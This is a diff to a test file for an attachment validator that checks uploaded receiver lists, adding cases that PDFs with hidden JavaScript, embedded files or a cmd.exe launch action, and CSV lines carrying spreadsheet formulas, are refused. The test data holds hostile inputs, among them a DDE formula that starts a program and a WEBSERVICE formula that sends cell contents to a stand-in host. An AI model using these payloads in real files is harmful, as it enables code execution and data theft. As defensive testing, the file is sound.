@@ -35,17 +35,31 @@ describe('a receiver list is known by its content', () => {
     ['a workbook that is cut off', makeZip(WORKBOOK).subarray(0, 60)],
     ['a document that is cut off', Buffer.from(PDF.replace('%%EOF', ''))],
     ['a document with a script', Buffer.from(PDF.replace('<< >>', '<< /S /JavaScript /JS (app.alert(1)) >>'))],
+    ['a document that hides its script', Buffer.from(PDF.replace('<< >>', '<< /S /J#61vaScript /JS (app.alert(1)) >>'))],
+    ['a document with a file in it', Buffer.from(PDF.replace('<< >>', '<< /Type /EmbeddedFile >>'))],
     ['a document that starts a program', Buffer.from(PDF.replace('<< >>', '<< /S /Launch /F (cmd.exe) >>'))],
   ])('%s is refused', (_sentence, content) => {
     expect(checkAttachment(content)).toEqual({ ok: false, failure: 'ATTACHMENT_TYPE' })
   })
 
-  test.each(['=HYPERLINK("http://x.example")', 'Anna,=1+1', 'Anna;"=cmd|x"', 'Anna,@SUM(A1)', 'Anna\t+cmd|x', '-cmd|x'])(
-    'formulas are refused: %s',
-    (line) => {
-      expect(checkAttachment(Buffer.from(`Name,Email\n${line}\n`))).toEqual({ ok: false, failure: 'ATTACHMENT_FORMULA' })
-    },
-  )
+  test.each([
+    '=HYPERLINK("http://x.example")',
+    'Anna,=1+1',
+    'Anna;"=cmd|x"',
+    'Anna,@SUM(A1)',
+    'Anna\t+cmd|x',
+    '-cmd|x',
+    "-2+3+cmd|' /C calc'!A0",
+    'Anna,"+1+WEBSERVICE(""http://x.example""&B2)"',
+  ])('formulas are refused: %s', (line) => {
+    expect(checkAttachment(Buffer.from(`Name,Email\n${line}\n`))).toEqual({ ok: false, failure: 'ATTACHMENT_FORMULA' })
+  })
+
+  test.each(['\n', '"', ',', '\t', ' ', '+', ',"', '\n" ', ',-1 '])('5 MB of %j are judged at once', (letters) => {
+    const started = performance.now()
+    checkAttachment(Buffer.alloc(ATTACHMENT_MAX_BYTES, `name\n${letters.repeat(200_000)}`))
+    expect(performance.now() - started).toBeLessThan(3_000)
+  })
 
   test('5 MB are taken, a byte more is not', () => {
     const list = Buffer.alloc(ATTACHMENT_MAX_BYTES + 1, 'anna,')
